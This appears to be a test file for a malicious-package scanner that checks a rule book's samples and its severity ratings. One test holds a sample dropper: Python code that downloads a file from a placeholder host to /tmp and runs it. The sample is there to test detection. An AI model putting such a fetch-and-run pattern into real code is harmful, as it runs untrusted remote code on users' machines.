/**
 * Every rule file carries its own positive and negative samples: each
 * positive must make the rule fire, each negative must not.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Rulebook } from '../../src/analyze/rulebook/rulebook.js';
import type { Rule } from '../../src/analyze/rulebook/rule.js';
import { SourceScanner, severityOf, type RuleHit } from '../../src/analyze/source-scan.js';
import { checkLayout, checkMetadata, checkScripts, checkTopLevel } from '../../src/analyze/artifact-rules.js';
import type { ArtifactMetadata } from '../../src/analyze/subjects.js';
import { fileRole } from '../../src/analyze/context.js';

const book = await Rulebook.load();
const scanner = new SourceScanner(book);

function field(sample: unknown, key: string): unknown {
  return typeof sample === 'object' && sample !== null ? (sample as Record<string, unknown>)[key] : undefined;
}

/** Runs one sample through the engine the way an artifact scan would. */
function hitsFor(rule: Rule, sample: unknown): RuleHit[] {
  const text = typeof sample === 'string' ? sample : String(field(sample, 'text') ?? '');
  const path = field(sample, 'path');
  switch (rule.target) {
    case 'python':
    case 'combination':
      if (typeof path === 'string' && path.endsWith('.pth')) return scanner.scanPth({ path, text });
      // Placed as in an sdist, so that a sample's setup.py runs at install time.
      return scanner.scanPython({ path: typeof path === 'string' ? path : 'pkg/module.py', text }, { role: fileRole(typeof path === 'string' ? path : 'pkg/module.py', 'sdist'), depth: 0 });
    case 'pth':
      return scanner.scanPth({ path: typeof path === 'string' ? path : 'example.pth', text });
    case 'path':
      return scanner.scanPath(String(sample));
    case 'metadata': {
      const m = sample as Partial<ArtifactMetadata>;
      return checkMetadata(book, { ...m, emails: m.emails ?? [], urls: m.urls ?? [] });
    }
    case 'entry-points': {
      const scripts = new Map(Object.entries((field(sample, 'scripts') ?? {}) as Record<string, string>));
      return checkScripts(book, { project: String(field(sample, 'project')), scripts });
    }
    case 'top-level':
      return checkTopLevel(book, { project: String(field(sample, 'project')), names: field(sample, 'names') as string[] });
    case 'layout':
      return checkLayout(book, { kind: field(sample, 'kind') as 'wheel' | 'sdist' | 'source-tree', paths: field(sample, 'paths') as string[] });
  }
}

test('the rule book loads and holds rules for every target the brief asks for', () => {
  const targets = new Set(book.rules.map((c) => c.rule.target));
  for (const t of ['python', 'pth', 'path', 'metadata', 'entry-points', 'top-level', 'layout', 'combination'] as const) {
    assert.ok(targets.has(t), `no rule with target ${t}`);
  }
});

for (const { rule } of book.rules) {
  test(`rule ${rule.id}`, async (t) => {
    for (const [i, sample] of rule.positive.entries()) {
      await t.test(`positive #${i + 1} fires`, () => {
        const ids = hitsFor(rule, sample).map((h) => h.rule.id);
        assert.ok(ids.includes(rule.id), `expected ${rule.id} on:\n${JSON.stringify(sample, null, 1)}\ngot: ${ids.join(', ') || 'nothing'}`);
      });
    }
    for (const [i, sample] of rule.negative.entries()) {
      await t.test(`negative #${i + 1} stays quiet`, () => {
        const hits = hitsFor(rule, sample).filter((h) => h.rule.id === rule.id);
        assert.deepEqual(hits.map((h) => h.snippet), [], `${rule.id} fired on:\n${JSON.stringify(sample, null, 1)}`);
      });
    }
  });
}

test('a dropper is critical at import time and high in a function that runs only when called', () => {
  const dropper = (body: string): string[] => {
    const rule = book.get('code.run-dropped-file')!.rule;
    return hitsFor(rule, body)
      .filter((h) => h.rule.id === 'code.run-dropped-file')
      .map((h) => severityOf(h));
  };
  const fetchAndRun = 'urllib.request.urlretrieve("https://example.invalid/tool", "/tmp/tool")\nsubprocess.run(["/tmp/tool", "--version"])';
  assert.deepEqual(dropper(`import subprocess, urllib.request\n${fetchAndRun}`), ['critical']);
  const inFunction = `import subprocess, urllib.request\ndef profile():\n${fetchAndRun.replace(/^/gm, '    ')}`;
  assert.deepEqual(dropper(inFunction), ['high']);
  assert.deepEqual(dropper(`${inFunction}\nprofile()`), ['critical'], 'a function the module calls on import runs at import time');
});
